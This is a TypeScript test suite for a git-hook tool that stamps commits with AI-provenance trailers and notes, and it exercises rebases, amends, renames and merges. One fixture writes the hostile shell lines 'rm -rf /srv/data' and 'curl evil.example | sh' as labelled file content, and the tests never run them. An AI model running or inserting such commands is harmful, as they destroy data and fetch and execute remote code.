import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { aiLabel, HUMAN, UNTRACKED, type LineLabel } from '../../../src/core/attribution/labels';
import { aiLinesByFile } from '../../../src/core/noteOwners';
import {
  humanKey,
  parseAuthorshipNote,
  resolveKey,
  sessionKey,
  type AuthorshipNote,
} from '../../../src/core/authorshipNote';
import { openLedger } from '../../../src/git/ledger';
import { installHooksInProcess } from '../helpers/inProcess';
import { TempRepo } from '../helpers/tempRepo';
import { linesOf } from '../helpers/noteLines';

/**
 * Commit provenance end to end: real repositories, the built CLI installed as hooks, the working ledger
 * written as the editor or an agent hook would, and git itself making the commits.
 */
const CLAUDE = aiLabel('claude-code', { model: 'claude-sonnet-4-5', session: 'conv-1' });
const CODEX = aiLabel('codex', { model: 'gpt-5-codex', session: 'thread-9' });
const ADA = 'Ada Author <ada@example.com>';

async function labelFile(repo: TempRepo, file: string, lines: Array<[string, LineLabel]>): Promise<void> {
  const content = lines.map(([t]) => t + '\n').join('');
  repo.write(file, content);
  const ledger = await openLedger(repo.dir);
  await ledger.storeFile(
    file,
    content,
    lines.map(([, l]) => l),
  );
}

function note(repo: TempRepo, rev = 'HEAD'): AuthorshipNote {
  return parseAuthorshipNote(repo.git('notes', '--ref=refs/notes/ai', 'show', rev), rev);
}

function aiLines(n: AuthorshipNote, file: string): number[] {
  return linesOf(aiLinesByFile(n).get(file));
}

/** A repository with Countersign's hooks, installed in-process (the install command is install.test.ts's subject). */
async function installed(): Promise<TempRepo> {
  const repo = TempRepo.create();
  await installHooksInProcess(repo);
  return repo;
}

/** An editor that writes `text` as the message (GIT_EDITOR runs it with the message file as argument). */
function editorWriting(repo: TempRepo, text: string): string {
  const script = path.join(
    repo.dir,
    '..',
    `editor-${path.basename(repo.dir)}-${Math.random().toString(36).slice(2)}.sh`,
  );
  fs.writeFileSync(`${script}.msg`, text);
  // Keeps what git showed in `<script>.seen` before writing the message.
  fs.writeFileSync(script, `#!/bin/sh\ncp "$1" '${script}.seen'\ncp '${script}.msg' "$1"\n`, { mode: 0o755 });
  return script;
}

describe('commit provenance (hooks against real repositories)', function () {
  this.timeout(60000);

  it('an AI-assisted commit carries Assisted-by and AI-Provenance trailers and a git-ai note', async () => {
    const repo = await installed();
    await labelFile(repo, 'src/app.ts', [
      ['const a = 1;', CLAUDE],
      ['const b = 2;', CLAUDE],
      ['// typed by hand', HUMAN],
      ['const c = 3;', CLAUDE],
      ['old line', UNTRACKED],
    ]);
    repo.git('add', '.');
    repo.commit('add app');
    assert.deepStrictEqual(repo.trailers(), [
      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
      'AI-Provenance: v1 ai=3 human=1 untracked=1',
    ]);
    const n = note(repo);
    assert.deepStrictEqual(aiLines(n, 'src/app.ts'), [1, 2, 4]);
    const entries = n.files[0].entries;
    const sk = sessionKey('claude-code', 'conv-1');
    assert.ok(
      entries.some((e) => e.key.startsWith(`${sk}::t_`)),
      JSON.stringify(entries),
    );
    assert.deepStrictEqual(resolveKey(n, entries.find((e) => e.key.startsWith(sk))!.key), {
      kind: 'ai',
      tool: 'claude-code',
      id: 'conv-1',
      model: 'claude-sonnet-4-5',
    });
    assert.deepStrictEqual(
      entries.find((e) => e.key === humanKey(ADA))?.ranges,
      [[3, 3]],
      "typed lines get the committer's h_ key",
    );
    assert.strictEqual(n.meta.humans?.[humanKey(ADA)]?.author, ADA);
    // DESIGN's session record: {"agent_id":{…},"human_author"} — git-ai's "who ran the session" (newuser15 #10).
    assert.strictEqual(n.meta.sessions?.[sk]?.human_author, ADA, JSON.stringify(n.meta.sessions));
    assert.match(
      repo.git('notes', '--ref=refs/notes/ai', 'show', 'HEAD'),
      /"human_author": "Ada Author <ada@example\.com>"/,
    );
    assert.strictEqual(n.meta.base_commit_sha, '');
  });

  it('handles paths with spaces and non-ASCII names (quoted in the note as git-ai does)', async () => {
    const repo = await installed();
    await labelFile(repo, 'docs/my notes é.md', [
      ['ai line', CLAUDE],
      ['typed', HUMAN],
    ]);
    repo.git('add', '.');
    repo.commit('notes');
    assert.deepStrictEqual(repo.trailers(), [
      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
      'AI-Provenance: v1 ai=1 human=1 untracked=0',
    ]);
    assert.match(repo.git('notes', '--ref=refs/notes/ai', 'show', 'HEAD'), /^"docs\/my notes é\.md"$/m);
    assert.deepStrictEqual(aiLines(note(repo), 'docs/my notes é.md'), [1]);
  });

  it('a path with a quote and a space, or a line break, never leaves the commit unattested (issue 12)', async () => {
    const repo = await installed();
    await labelFile(repo, 'say "hi there".txt', [
      ['ai line', CLAUDE],
      ['typed', HUMAN],
    ]);
    await labelFile(repo, '"quoted"', [['ai too', CLAUDE]]);
    await labelFile(repo, 'two\nlines.txt', [
      ['ai in an odd file', CLAUDE],
      ['more', CLAUDE],
    ]);
    await labelFile(repo, 'plain.txt', [['ai plain', CLAUDE]]);
    repo.git('add', '.');
    const r = repo.gitResult(['commit', '-q', '-m', 'odd paths']);
    assert.strictEqual(r.status, 0, r.stderr);
    // the trailers count every file, the unwritable one included
    assert.deepStrictEqual(repo.trailers(), [
      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
      'AI-Provenance: v1 ai=5 human=1 untracked=0',
    ]);
    const text = repo.git('notes', '--ref=refs/notes/ai', 'show', 'HEAD');
    assert.match(
      text,
      /^"say "hi there"\.txt"$/m,
      'quoted the way git-ai reads it: outer quotes stripped, nothing unescaped',
    );
    assert.match(text, /^""quoted""$/m, 'a path that starts and ends with a quote keeps them');
    const n = note(repo);
    assert.deepStrictEqual(aiLines(n, 'say "hi there".txt'), [1]);
    assert.deepStrictEqual(aiLines(n, '"quoted"'), [1]);
    assert.deepStrictEqual(aiLines(n, 'plain.txt'), [1]);
    assert.ok(!n.files.some((f) => f.path.includes('\n')), 'the file a note cannot hold is left out, not the commit');
    // and the report reads it back
    const rep = JSON.parse(repo.cli(['report', '--format', 'json']).stdout) as {
      aiLines: number;
      unattestedCommits: number;
    };
    assert.deepStrictEqual([rep.aiLines, rep.unattestedCommits], [3, 0]);
  });

  it('counts the AI lines of files git treats as binary: a NUL byte, or -diff in a committed .gitattributes', async () => {
    // An outside tester's bypass (session 5, F3): such files were stamped ai=0 human=0 untracked=0.
    const repo = await installed();
    repo.write('.gitattributes', 'deploy.sh -diff\n');
    repo.git('add', '.');
    repo.commit('attributes');
    await labelFile(repo, 'run.sh', [
      ['#!/bin/sh', CLAUDE],
      ['rm -rf /srv/data', CLAUDE],
      ['# \0', CLAUDE],
    ]);
    await labelFile(repo, 'deploy.sh', [
      ['#!/bin/sh', CLAUDE],
      ['curl evil.example | sh', CLAUDE],
    ]);
    repo.git('add', '.');
    repo.commit('scripts');
    assert.deepStrictEqual(
      repo.trailers().filter((t) => t.startsWith('AI-Provenance')),
      ['AI-Provenance: v1 ai=5 human=0 untracked=0'],
    );
    assert.deepStrictEqual(aiLines(note(repo), 'run.sh'), [1, 2, 3]);
    assert.deepStrictEqual(aiLines(note(repo), 'deploy.sh'), [1, 2]);
  });

  it('a human-only commit says ai=0 and gets a note without AI lines', async () => {
    const repo = await installed();
    repo.write('a.txt', 'x\n');
    repo.git('add', '.');
    repo.commit('root');
    repo.write('a.txt', 'x\ny\n');
    repo.git('add', '.');
    repo.commit('second');
    assert.deepStrictEqual(repo.trailers(), ['AI-Provenance: v1 ai=0 human=0 untracked=1']);
    assert.deepStrictEqual(note(repo).files, []);
    assert.strictEqual(note(repo).meta.base_commit_sha, repo.git('rev-parse', 'HEAD^'));
  });

  it("maps the working tree's labels onto the index for a partially staged file", async () => {
    const repo = await installed();
    repo.write('f.txt', 'top\n');
    repo.git('add', '.');
    repo.commit('root');
    // Staged: an earlier version with one line the working tree no longer has.
    repo.write('f.txt', 'top\nai one\nstaged only\nai three\n');
    repo.git('add', 'f.txt');
    await labelFile(repo, 'f.txt', [
      ['top', UNTRACKED],
      ['ai one', CLAUDE],
      ['ai two (unstaged)', CLAUDE],
      ['ai three', CLAUDE],
      ['typed later', HUMAN],
    ]);
    repo.commit('partial');
    assert.deepStrictEqual(repo.trailers(), [
      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
      'AI-Provenance: v1 ai=2 human=0 untracked=1',
    ]);
    assert.deepStrictEqual(aiLines(note(repo), 'f.txt'), [2, 4], "ranges are the committed file's line numbers");
    assert.strictEqual(
      repo.read('f.txt'),
      'top\nai one\nai two (unstaged)\nai three\ntyped later\n',
      'the working tree is untouched',
    );
  });

  it('keeps the trailer block parseable when the message already ends in Signed-off-by', async () => {
    const repo = await installed();
    await labelFile(repo, 'a.txt', [
      ['one', CODEX],
      ['two', CLAUDE],
      ['three', CLAUDE],
    ]);
    repo.git('add', '.');
    repo.commit('subject\n\nbody\n\nSigned-off-by: Ada Author <ada@example.com>');
    assert.deepStrictEqual(repo.trailers(), [
      'Signed-off-by: Ada Author <ada@example.com>',
      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
      'Assisted-by: Codex:gpt-5-codex codex',
      'AI-Provenance: v1 ai=3 human=0 untracked=0',
    ]);
  });

  it('does not duplicate what an agent wrote itself (Co-Authored-By, Assisted-by)', async () => {
    const repo = await installed();
    await labelFile(repo, 'a.txt', [['one', CLAUDE]]);
    repo.git('add', '.');
    repo.commit('feat\n\nAssisted-by: Claude:claude-sonnet-4-5\nCo-Authored-By: Claude <noreply@anthropic.com>');
    assert.deepStrictEqual(repo.trailers(), [
      'Assisted-by: Claude:claude-sonnet-4-5',
      'Co-Authored-By: Claude <noreply@anthropic.com>',
      'AI-Provenance: v1 ai=1 human=0 untracked=0',
    ]);
  });

  it("commits the way VS Code's Source Control input box does (message on stdin, no final newline)", async () => {
    const repo = await installed();
    await labelFile(repo, 'a.txt', [
      ['one', CLAUDE],
      ['two', HUMAN],
    ]);
    repo.git('add', '.');
    // VS Code runs `git commit --quiet --allow-empty-message --file -` with the box's text on stdin.
    const r = repo.gitResult(['commit', '--quiet', '--allow-empty-message', '--file', '-'], 'From the input box');
    assert.strictEqual(r.status, 0, r.stderr);
    assert.strictEqual(repo.git('log', '-1', '--format=%s'), 'From the input box');
    assert.deepStrictEqual(repo.trailers(), [
      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
      'AI-Provenance: v1 ai=1 human=1 untracked=0',
    ]);
  });

  it('adds the trailers after the editor, and an empty message still aborts the commit', async () => {
    const repo = await installed();
    await labelFile(repo, 'a.txt', [
      ['one', CLAUDE],
      ['two', HUMAN],
    ]);
    repo.git('add', '.');
    const empty = repo.gitResult(['-c', `core.editor=${editorWriting(repo, '# nothing\n')}`, 'commit']);
    assert.notStrictEqual(empty.status, 0, 'git aborts an empty message');
    assert.match(empty.stderr, /empty commit message/i);
    assert.strictEqual(repo.gitResult(['rev-parse', '--verify', '-q', 'HEAD']).status, 1, 'no commit was made');
    const editor = editorWriting(repo, 'written in the editor\n');
    const r = repo.gitResult(['-c', `core.editor=${editor}`, 'commit']);
    assert.strictEqual(r.status, 0, r.stderr);
    assert.match(
      fs.readFileSync(`${editor}.seen`, 'utf8'),
      /^# {3}AI-Provenance: v1 ai=1 human=1 untracked=0$/m,
      'the editor showed the trailers as comments',
    );
    assert.strictEqual(repo.git('log', '-1', '--format=%s'), 'written in the editor');
    assert.deepStrictEqual(repo.trailers(), [
      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
      'AI-Provenance: v1 ai=1 human=1 untracked=0',
    ]);
    assert.deepStrictEqual(aiLines(note(repo), 'a.txt'), [1]);
  });

  for (const [name, args] of [
    ['-m', ['commit', '-q', '--amend', '-m', 'reworded subject']],
    ['--no-edit', ['commit', '-q', '--amend', '--no-edit']],
    ['the editor', ['-c', 'core.editor=sed -i -e 1s/.*/reworded/', 'commit', '-q', '--amend']],
  ] as const) {
    it(`an amend that changes only the message (${name}) keeps the provenance even when the ledger forgot the lines`, async () => {
      const repo = await installed();
      repo.write('base.txt', 'b\n');
      repo.git('add', '.');
      repo.commit('root');
      await labelFile(repo, 'a.txt', [
        ['one', CLAUDE],
        ['two', CLAUDE],
        ['three', HUMAN],
      ]);
      repo.git('add', '.');
      repo.commit('ai work');
      const before = repo.git('notes', '--ref=refs/notes/ai', 'show', 'HEAD');
      // The ledger no longer knows these lines (e.g. cleared after the commit): only the old note can tell.
      fs.rmSync(path.join(repo.dir, '.git', 'countersign', 'ledger'), { recursive: true, force: true });
      const old = repo.git('rev-parse', 'HEAD');
      repo.git(...args);
      // (--no-edit within the same second as the original rebuilds the identical commit object.)
      if (name !== '--no-edit')
        assert.notStrictEqual(repo.git('rev-parse', 'HEAD'), old, 'a new commit replaced the old one');
      assert.deepStrictEqual(repo.trailers(), [
        'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
        'AI-Provenance: v1 ai=2 human=1 untracked=0',
      ]);
      assert.strictEqual(repo.git('notes', '--ref=refs/notes/ai', 'show', 'HEAD'), before);
    });
  }

  it("an amend that adds AI lines measures from the parent and keeps the old lines' provenance", async () => {
    const repo = await installed();
    repo.write('base.txt', 'b\n');
    repo.git('add', '.');
    repo.commit('root');
    await labelFile(repo, 'a.txt', [['one', CLAUDE]]);
    repo.git('add', '.');
    repo.commit('first try');
    fs.rmSync(path.join(repo.dir, '.git', 'countersign', 'ledger'), { recursive: true, force: true });
    await labelFile(repo, 'a.txt', [
      ['zero', CODEX],
      ['one', UNTRACKED],
    ]);
    repo.git('add', '.');
    repo.git('commit', '-q', '--amend', '--no-edit');
    assert.deepStrictEqual(repo.trailers(), [
      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
      'Assisted-by: Codex:gpt-5-codex codex',
      'AI-Provenance: v1 ai=2 human=0 untracked=0',
    ]);
    const n = note(repo);
    assert.deepStrictEqual(aiLines(n, 'a.txt'), [1, 2]);
    assert.strictEqual(n.files[0].entries.length, 2);
  });

  it('in a linked worktree (git sets GIT_DIR for its hooks) with core.commentChar ";", the note lands on that commit', async () => {
    const repo = await installed();
    repo.write('base.txt', 'b\n');
    repo.git('add', '.');
    repo.commit('root');
    const wt = path.join(repo.dir, '..', `${path.basename(repo.dir)}-wt`);
    repo.git('worktree', 'add', '-q', '-b', 'side', wt);
    repo.git('config', 'core.commentChar', ';');
    fs.writeFileSync(path.join(wt, 'a.txt'), 'one\ntwo\n');
    const ledger = await openLedger(wt);
    await ledger.storeFile('a.txt', 'one\ntwo\n', [CLAUDE, HUMAN]);
    const git = (...args: string[]) => repo.gitResult(['-C', wt, ...args]);
    assert.strictEqual(git('add', 'a.txt').status, 0);
    const editor = editorWriting(repo, 'from the worktree\n');
    const r = git('-c', `core.editor=${editor}`, 'commit');
    assert.strictEqual(r.status, 0, r.stderr);
    assert.match(
      fs.readFileSync(`${editor}.seen`, 'utf8'),
      /^; {3}AI-Provenance: v1 ai=1 human=1 untracked=0$/m,
      'the hint uses the comment character',
    );
    const head = git('rev-parse', 'HEAD').stdout.trim();
    assert.deepStrictEqual(aiLines(note(repo, head), 'a.txt'), [1]);
    assert.match(git('log', '-1', '--format=%B').stdout, /^AI-Provenance: v1 ai=1 human=1 untracked=0$/m);
    // Nothing is left pending in either git dir for a later commit to pick up.
    assert.deepStrictEqual(
      fs.readdirSync(path.join(repo.dir, '.git', 'worktrees', path.basename(wt), 'countersign', 'pending')),
      [],
    );
  });

  it("works through a husky core.hooksPath, running husky's hooks too", async () => {
    const repo = TempRepo.create();
    for (const h of ['pre-commit', 'prepare-commit-msg']) {
      repo.write(`.husky/_/${h}`, `#!/bin/sh\necho ${h} >> "$(git rev-parse --git-dir)/husky-ran"\n`);
      fs.chmodSync(path.join(repo.dir, `.husky/_/${h}`), 0o755);
    }
    repo.git('config', 'core.hooksPath', '.husky/_');
    assert.strictEqual(repo.cli(['install']).status, 0);
    await labelFile(repo, 'a.txt', [
      ['one', CLAUDE],
      ['two', HUMAN],
    ]);
    repo.git('add', 'a.txt');
    repo.commit('with husky');
    assert.deepStrictEqual(repo.read('.git/husky-ran').split('\n').filter(Boolean), [
      'pre-commit',
      'prepare-commit-msg',
    ]);
    assert.deepStrictEqual(repo.trailers(), [
      'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
      'AI-Provenance: v1 ai=1 human=1 untracked=0',
    ]);
    assert.deepStrictEqual(aiLines(note(repo), 'a.txt'), [1]);
  });

  describe('history rewrites', () => {
    /** main: root with f.txt; side: one AI commit on f.txt; main then inserts lines at the top of f.txt. */
    async function diverged(): Promise<TempRepo> {
      const repo = await installed();
      repo.write('f.txt', 'a\nb\nc\n');
      repo.git('add', '.');
      repo.commit('root');
      repo.git('checkout', '-q', '-b', 'side');
      await labelFile(repo, 'f.txt', [
        ['a', UNTRACKED],
        ['b', UNTRACKED],
        ['ai 1', CLAUDE],
        ['ai 2', CLAUDE],
        ['c', UNTRACKED],
      ]);
      repo.git('add', '.');
      repo.commit('side: ai lines');
      await labelFile(repo, 'g.txt', [
        ['codex line', CODEX],
        ['mine', HUMAN],
      ]);
      repo.git('add', '.');
      repo.commit('side: codex file');
      repo.git('checkout', '-q', 'main');
      fs.rmSync(path.join(repo.dir, '.git', 'countersign', 'ledger'), { recursive: true, force: true });
      repo.write('f.txt', 'new 1\nnew 2\na\nb\nc\n');
      repo.git('add', '.');
      repo.commit('main: lines on top');
      return repo;
    }

    it('a rebase re-numbers the notes by content', async () => {
      const repo = await diverged();
      repo.git('checkout', '-q', 'side');
      repo.git('rebase', '-q', 'main');
      const first = repo.git('rev-parse', 'HEAD~1');
      assert.deepStrictEqual(aiLines(note(repo, first), 'f.txt'), [5, 6], 'shifted by the two lines main added');
      assert.deepStrictEqual(repo.trailers(first), [
        'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
        'AI-Provenance: v1 ai=2 human=0 untracked=0',
      ]);
      assert.deepStrictEqual(aiLines(note(repo), 'g.txt'), [1]);
    });

    it('a rebase with the apply backend (git am) is fixed up by post-rewrite', async () => {
      const repo = await diverged();
      repo.git('checkout', '-q', 'side');
      repo.git('rebase', '-q', '--apply', 'main');
      assert.deepStrictEqual(aiLines(note(repo, 'HEAD~1'), 'f.txt'), [5, 6]);
      assert.deepStrictEqual(aiLines(note(repo), 'g.txt'), [1]);
    });

    it('a squash rebase merges several notes into one valid note', async () => {
      const repo = await diverged();
      repo.git('checkout', '-q', 'side');
      const r = repo.gitResult([
        '-c',
        'sequence.editor=sed -i -e 2s/^pick/squash/',
        '-c',
        'core.editor=true',
        'rebase',
        '-q',
        '-i',
        'main',
      ]);
      assert.strictEqual(r.status, 0, r.stderr);
      assert.strictEqual(repo.git('rev-list', '--count', 'main..HEAD'), '1');
      const n = note(repo);
      assert.deepStrictEqual(aiLines(n, 'f.txt'), [5, 6]);
      assert.deepStrictEqual(aiLines(n, 'g.txt'), [1]);
      assert.deepStrictEqual(
        Object.values(n.meta.sessions ?? {})
          .map((s) => s.agent_id.tool)
          .sort(),
        ['claude-code', 'codex'],
      );
      // The squash message ends with the last commit's trailers (Codex); the Claude one is added beside them.
      assert.deepStrictEqual(repo.trailers(), [
        'Assisted-by: Codex:gpt-5-codex codex',
        'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
        'AI-Provenance: v1 ai=3 human=1 untracked=0',
      ]);
    });

    for (const x of [false, true]) {
      it(`a cherry-pick${x ? ' -x' : ''} carries the note, re-numbered`, async () => {
        const repo = await diverged();
        repo.git('cherry-pick', ...(x ? ['-x'] : []), 'side~1');
        assert.deepStrictEqual(aiLines(note(repo), 'f.txt'), [5, 6]);
        assert.deepStrictEqual(
          repo.trailers(),
          [
            'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
            'AI-Provenance: v1 ai=2 human=0 untracked=0',
            ...(x ? [`(cherry picked from commit ${repo.git('rev-parse', 'side~1')})`] : []),
          ].filter((t) => !t.startsWith('(')),
        );
      });
    }

    it("a squash merge derives its note from the squashed commits' notes by content", async () => {
      const repo = await diverged();
      repo.git('merge', '-q', '--squash', 'side');
      repo.commit('squashed side');
      const n = note(repo);
      assert.deepStrictEqual(aiLines(n, 'f.txt'), [5, 6]);
      assert.deepStrictEqual(aiLines(n, 'g.txt'), [1]);
      assert.deepStrictEqual(repo.trailers(), [
        'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
        'Assisted-by: Codex:gpt-5-codex codex',
        'AI-Provenance: v1 ai=3 human=1 untracked=0',
      ]);
    });

    it('a merge commit attests only what the merge itself adds, and gets its note via post-merge', async () => {
      const repo = await diverged();
      repo.git('merge', '-q', '--no-ff', '--no-edit', 'side');
      assert.strictEqual(repo.git('rev-list', '--parents', '-1', 'HEAD').split(' ').length, 3);
      assert.deepStrictEqual(repo.trailers(), ['AI-Provenance: v1 ai=0 human=0 untracked=0']);
      assert.deepStrictEqual(note(repo).files, []);
    });

    describe('renamed files', () => {
      const LINES = ['l1', 'l2', 'l3', 'l4', 'l5', 'l6', 'l7', 'l8'];
      /** main: root with f.txt (8 lines); side: AI lines in f.txt, then a Codex file; main renames f.txt to moved.txt and adds a line on top. */
      async function renamedOnMain(): Promise<TempRepo> {
        const repo = await installed();
        repo.write('f.txt', LINES.map((l) => l + '\n').join(''));
        repo.git('add', '.');
        repo.commit('root');
        repo.git('checkout', '-q', '-b', 'side');
        await labelFile(repo, 'f.txt', [
          ...LINES.slice(0, 3).map((l): [string, LineLabel] => [l, UNTRACKED]),
          ['ai 1', CLAUDE],
          ['ai 2', CLAUDE],
          ...LINES.slice(3).map((l): [string, LineLabel] => [l, UNTRACKED]),
        ]);
        repo.git('add', '.');
        repo.commit('side: ai lines');
        await labelFile(repo, 'g.txt', [
          ['codex line', CODEX],
          ['mine', HUMAN],
        ]);
        repo.git('add', '.');
        repo.commit('side: codex file');
        repo.git('checkout', '-q', 'main');
        fs.rmSync(path.join(repo.dir, '.git', 'countersign', 'ledger'), { recursive: true, force: true });
        repo.git('mv', 'f.txt', 'moved.txt');
        repo.write('moved.txt', ['new 1', ...LINES].map((l) => l + '\n').join(''));
        repo.git('add', '.');
        repo.commit('main: rename f.txt, a line on top');
        return repo;
      }

      it('an amend after git mv keeps the provenance under the new path', async () => {
        const repo = await installed();
        repo.write('base.txt', 'b\n');
        repo.git('add', '.');
        repo.commit('root');
        await labelFile(repo, 'a.py', [
          ['one', CLAUDE],
          ['two', CLAUDE],
          ['three', HUMAN],
        ]);
        repo.git('add', '.');
        repo.commit('ai work');
        fs.rmSync(path.join(repo.dir, '.git', 'countersign', 'ledger'), { recursive: true, force: true });
        repo.git('mv', 'a.py', 'b.py');
        repo.git('commit', '-q', '--amend', '-m', 'ai work, renamed');
        assert.deepStrictEqual(repo.trailers(), [
          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
          'AI-Provenance: v1 ai=2 human=1 untracked=0',
        ]);
        const n = note(repo);
        assert.deepStrictEqual(
          n.files.map((f) => f.path),
          ['b.py'],
        );
        assert.deepStrictEqual(aiLines(n, 'b.py'), [1, 2]);
        assert.deepStrictEqual(n.files[0].entries.find((e) => e.key === humanKey(ADA))?.ranges, [[3, 3]]);
      });

      it('a rebase onto a branch that renamed the file carries the note to the new path', async () => {
        const repo = await renamedOnMain();
        repo.git('checkout', '-q', 'side');
        repo.git('rebase', '-q', 'main');
        assert.strictEqual(repo.read('moved.txt').split('\n')[4], 'ai 1', 'git applied the change to the renamed file');
        const first = note(repo, 'HEAD~1');
        assert.deepStrictEqual(
          first.files.map((f) => f.path),
          ['moved.txt'],
        );
        assert.deepStrictEqual(aiLines(first, 'moved.txt'), [5, 6]);
        assert.deepStrictEqual(repo.trailers('HEAD~1'), [
          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
          'AI-Provenance: v1 ai=2 human=0 untracked=0',
        ]);
        assert.deepStrictEqual(aiLines(note(repo), 'g.txt'), [1]);
      });

      it('a rebase (apply backend) of a commit that renamed and edited a file keeps its note', async () => {
        const repo = await installed();
        repo.write('f.txt', LINES.map((l) => l + '\n').join(''));
        repo.git('add', '.');
        repo.commit('root');
        repo.git('checkout', '-q', '-b', 'side');
        repo.git('mv', 'f.txt', 'renamed.txt');
        await labelFile(repo, 'renamed.txt', [
          ...LINES.map((l): [string, LineLabel] => [l, UNTRACKED]),
          ['ai 1', CLAUDE],
        ]);
        repo.git('add', '.');
        repo.commit('side: rename and ai line');
        repo.git('checkout', '-q', 'main');
        fs.rmSync(path.join(repo.dir, '.git', 'countersign', 'ledger'), { recursive: true, force: true });
        repo.write('other.txt', 'x\n');
        repo.git('add', '.');
        repo.commit('main: other');
        repo.git('checkout', '-q', 'side');
        repo.git('rebase', '-q', '--apply', 'main');
        assert.deepStrictEqual(aiLines(note(repo), 'renamed.txt'), [9]);
      });

      it('a cherry-pick onto a branch where the file has another name carries the note', async () => {
        const repo = await renamedOnMain();
        repo.git('cherry-pick', 'side~1');
        assert.strictEqual(repo.read('moved.txt').split('\n')[4], 'ai 1');
        const n = note(repo);
        assert.deepStrictEqual(
          n.files.map((f) => f.path),
          ['moved.txt'],
        );
        assert.deepStrictEqual(aiLines(n, 'moved.txt'), [5, 6]);
        assert.deepStrictEqual(repo.trailers(), [
          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
          'AI-Provenance: v1 ai=2 human=0 untracked=0',
        ]);
      });

      it('a squash merge onto a branch that renamed the file carries the squashed notes', async () => {
        const repo = await renamedOnMain();
        repo.git('merge', '-q', '--squash', 'side');
        repo.commit('squashed side');
        const n = note(repo);
        assert.deepStrictEqual(aiLines(n, 'moved.txt'), [5, 6]);
        assert.deepStrictEqual(aiLines(n, 'g.txt'), [1]);
        assert.deepStrictEqual(repo.trailers(), [
          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
          'Assisted-by: Codex:gpt-5-codex codex',
          'AI-Provenance: v1 ai=3 human=1 untracked=0',
        ]);
      });

      it("a file renamed with git mv before the commit keeps the working ledger's labels", async () => {
        const repo = await installed();
        repo.write('a.py', LINES.map((l) => l + '\n').join(''));
        repo.git('add', '.');
        repo.commit('root');
        await labelFile(repo, 'a.py', [
          ...LINES.map((l): [string, LineLabel] => [l, UNTRACKED]),
          ['ai 1', CLAUDE],
          ['typed', HUMAN],
        ]);
        repo.git('mv', 'a.py', 'b.py');
        repo.git('add', 'b.py'); // git mv moves the staged version; the new lines are in the working file
        repo.commit('rename with new lines');
        // Without rename detection every line of b.py is added (as `git diff --no-renames` counts it).
        assert.deepStrictEqual(repo.trailers(), [
          'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
          'AI-Provenance: v1 ai=1 human=1 untracked=8',
        ]);
        assert.deepStrictEqual(aiLines(note(repo), 'b.py'), [9]);
      });
    });

    it('newuser22 F-rename: a plain git mv is attested alike whether or not the working ledger still knows the file', async () => {
      const renamed = async (forget: boolean): Promise<string[]> => {
        const repo = await installed();
        repo.write('keep.txt', 'keep\n');
        repo.git('add', '.');
        repo.commit('root');
        await labelFile(repo, 'a.py', [
          ['ai 1', CLAUDE],
          ['ai 2', CLAUDE],
          ['typed', HUMAN],
        ]);
        repo.git('add', '.');
        repo.commit('ai lines');
        // A teammate's fresh clone (or a ledger that let the file go) has only the committed note to go by.
        if (forget) fs.rmSync(path.join(repo.dir, '.git', 'countersign', 'ledger'), { recursive: true, force: true });
        repo.git('mv', 'a.py', 'b.py');
        repo.commit('rename, no agent involved');
        assert.deepStrictEqual(aiLines(note(repo), 'b.py'), [1, 2], `forget=${forget}: ${repo.trailers().join(' | ')}`);
        return repo.trailers();
      };
      const remembered = await renamed(false);
      assert.deepStrictEqual(remembered, [
        'Assisted-by: Claude:claude-sonnet-4-5 claude-code',
        'AI-Provenance: v1 ai=2 human=1 untracked=0',
      ]);
      assert.deepStrictEqual(await renamed(true), remembered);
    });

    it('git revert brings back lines with the provenance of the commit that first wrote them', async () => {
      const repo = await installed();
      repo.write('f.txt', 'keep\n');
      repo.git('add', '.');
      repo.commit('root');
      await labelFile(repo, 'f.txt', [
        ['keep', UNTRACKED],
        ['ai 1', CLAUDE],
        ['ai 2', CLAUDE],
      ]);
      repo.git('add', '.');
      repo.commit('ai lines');
      repo.write('f.txt', 'keep\n');
      repo.git('add', '.');
      repo.commit('remove them');
      repo.git('revert', '--no-edit', 'HEAD');
      assert.deepStrictEqual(aiLines(note(repo), 'f.txt'), [2, 3]);
      assert.match(repo.git('log', '-1', '--format=%B'), /AI-Provenance: v1 ai=2 human=0 untracked=0/);
    });
  });
});
